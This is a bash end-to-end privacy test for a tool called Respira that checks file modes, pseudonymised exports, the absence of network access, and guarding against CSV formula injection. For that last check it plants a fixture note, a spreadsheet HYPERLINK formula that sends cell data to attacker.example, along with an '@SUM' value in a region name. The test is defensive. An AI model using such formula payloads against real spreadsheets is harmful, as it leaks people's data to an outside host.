#!/usr/bin/env bash
# Privacy end to end with the real binary, under a permissive umask (022), so the modes
# come from Respira and not from the caller:
#   - the database directory is 0700 and every database file 0600; every export file 0600;
#   - CSV exports never hand a spreadsheet a formula (notes, region names, display names);
#   - --pseudonymise leaves the display name and patient notes out of every format;
#   - no network: every command runs under strace and may not create an AF_INET/AF_INET6
#     socket — unless a PostgreSQL server is configured, the positive control showing that
#     strace would see it.
# (Unit tests in tests/session cover the same rules function by function; this proves
# the commands people run keep them.)
set -euo pipefail
respira=${1:?usage: test_reliability_privacy.sh /path/to/respira}
data=${RESPIRA_TEST_DATA_DIR:?RESPIRA_TEST_DATA_DIR not set}
work=$(mktemp -d)
trap '[[ -n ${KEEP:-} ]] || rm -rf "$work"' EXIT
fail() { echo "FAIL: $*" >&2; exit 1; }
command -v strace >/dev/null || fail "strace is needed (apt-get install strace)"

umask 022
export HOME=$work/home XDG_DATA_HOME=$work/home/data XDG_CONFIG_HOME=$work/home/config
unset RESPIRA_DATABASE_URL
mkdir -p "$HOME"
traces=$work/traces
mkdir -p "$traces"

# run NAME ARGS...: respira under strace, recording every socket it creates. (LeakSanitizer
# cannot run under ptrace; in the ASan build, leaks are checked by every other test.)
run() {
  local name=$1; shift
  ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 \
    strace -f -qq -e trace=socket,connect -o "$traces/$name" "$respira" "$@"
}
inet_sockets() { grep -hE 'socket\(AF_INET6?,|connect\([0-9]+, \{sa_family=AF_INET6?' "$@" || true; }

secret_name='Zelda Quux-Secret'
patient=$(run patient_add patient add "$secret_name" --notes '+private note; call 555-0100' | tail -n1)
[[ -n $patient ]] || fail "patient add printed no id"
run record session record --patient "$patient" --source "replay:$data/bidmc/bidmc_01_Signals.csv@60" \
  --duration 40 --pre-tension 6 --post-tension 3 --region '@SUM(1+1)=5:2' \
  --notes '=HYPERLINK("http://attacker.example/?q="&A1)' >/dev/null

# Database: 0700 directory, 0600 files (the WAL and shared-memory files included).
db_dir=$XDG_DATA_HOME/respira
[[ $(stat -c %a "$db_dir") == 700 ]] || fail "database directory is $(stat -c %a "$db_dir"), not 700"
for f in "$db_dir"/*; do
  [[ $(stat -c %a "$f") == 600 ]] || fail "$(basename "$f") is $(stat -c %a "$f"), not 600"
done
ls "$db_dir"/respira.db >/dev/null || fail "no database at the default location"

# Every export format: files 0600.
out=$work/exports
mkdir -p "$out"
run export_json export --patient "$patient" --format json --out "$out/record.json"
run export_csv export --patient "$patient" --format csv --out "$out/record.csv"
run export_fhir export --patient "$patient" --format fhir --out "$out/record.fhir.json"
run export_html export --patient "$patient" --format html --out "$out/report.html"
run export_edf export --patient "$patient" --format edf --out "$out/session.edf"
count=0
for f in "$out"/*; do
  [[ $(stat -c %a "$f") == 600 ]] || fail "export $(basename "$f") is $(stat -c %a "$f"), not 600"
  count=$((count + 1))
done
[[ $count -ge 7 ]] || fail "expected 7 export files (json, 3 csv, fhir, html, edf), found $count"

# CSV: no cell may start with = + - @ tab or CR once the quotes are off.
python3 - "$out"/record*.csv <<'PY' || fail "a CSV cell would run as a formula"
import csv, sys
bad = []
for path in sys.argv[1:]:
    with open(path, newline="") as f:
        for row in csv.reader(f):
            bad += [(path, c) for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not c.lstrip("-").replace(".", "", 1).isdigit()]
seen = open(sys.argv[1]).read() + "".join(open(p).read() for p in sys.argv[2:])
assert "HYPERLINK" in seen, "the notes were not exported at all"
assert not bad, bad
PY

# Pseudonymised exports leave the name and the patient's notes out of every format.
pseudo=$work/pseudo
mkdir -p "$pseudo"
for fmt in json fhir html edf; do
  run "pseudo_$fmt" export --patient "$patient" --format $fmt --pseudonymise --out "$pseudo/out.$fmt"
done
run pseudo_csv export --patient "$patient" --format csv --pseudonymise --out "$pseudo/out.csv"
grep -q "Zelda" "$out/record.json" || fail "the identified JSON export should hold the name (control)"
if grep -rl -e "Zelda" -e "Quux" -e "555-0100" "$pseudo"; then fail "a pseudonymised export still names the patient"; fi

# Import into a fresh database, too.
XDG_DATA_HOME=$work/other run import import "$out/record.json" >/dev/null

# No network without PostgreSQL: not one inet socket in any trace.
[[ $(ls "$traces" | wc -l) -ge 12 ]] || fail "expected a trace per command"
if [[ -n $(inet_sockets "$traces"/*) ]]; then
  inet_sockets "$traces"/* >&2
  fail "a command opened a network socket with no PostgreSQL configured"
fi

# Positive control: configure PostgreSQL (nothing listens on port 9) and the same
# tracing sees the connection attempt; the command fails with one clear message.
if RESPIRA_DATABASE_URL='postgresql://respira@127.0.0.1:9/respira?connect_timeout=3' \
    run postgres patient list 2> "$work/pg.err"; then
  fail "patient list against a PostgreSQL server that is not there should fail"
fi
[[ -n $(inet_sockets "$traces/postgres") ]] || fail "strace did not see the PostgreSQL connection (control)"
grep -q '^respira: ' "$work/pg.err" || fail "no clear error for the missing server: $(cat "$work/pg.err")"
[[ $(wc -l < "$work/pg.err") -le 3 ]] || fail "the PostgreSQL error should be short: $(cat "$work/pg.err")"
echo "privacy: modes, formula guard, pseudonymisation and no-network checks passed"
